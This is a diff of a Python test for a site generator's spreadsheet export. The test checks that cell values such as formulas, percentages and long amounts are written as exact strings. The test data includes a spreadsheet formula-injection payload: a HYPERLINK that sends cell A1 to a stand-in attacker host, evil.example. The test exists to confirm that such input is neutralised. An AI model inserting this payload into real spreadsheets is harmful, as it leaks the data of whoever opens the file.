@@ -219,17 +219,17 @@ def test_a_poisoned_package_on_disk_does_not_stop_later_builds(tmp_path):
 
 
 def test_xlsx_strings_are_strings_and_long_amounts_exact(tmp_path):
-    from openpyxl import Workbook, load_workbook
+    import xlsxwriter
+    from openpyxl import load_workbook
 
-    from sitegen.site.downloads import safe_cell
+    from sitegen.site.downloads import _write_row
 
-    wb = Workbook(write_only=True)
-    sheet = wb.create_sheet("t")
+    wb = xlsxwriter.Workbook(str(tmp_path / "t.xlsx"))
+    sheet = wb.add_worksheet("t")
     hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点此")'
     amount = "123456789012345678901234567890.12"
-    sheet.append([safe_cell(sheet, hyperlink), safe_cell(sheet, "=100%"), safe_cell(sheet, amount, True),
-                  safe_cell(sheet, "7376.85", True), safe_cell(sheet, "NaN", True), safe_cell(sheet, "", True)])
-    wb.save(tmp_path / "t.xlsx")
+    _write_row(sheet, 0, [hyperlink, "=100%", amount, "7376.85", "NaN", ""], [False, False, True, True, True, True])
+    wb.close()
     cells = list(load_workbook(tmp_path / "t.xlsx")["t"].iter_rows())[0]
     assert [(c.value, c.data_type) for c in cells[:5]] == [
         (hyperlink, "s"), ("=100%", "s"), (amount, "s"), (7376.85, "n"), ("NaN", "s")]
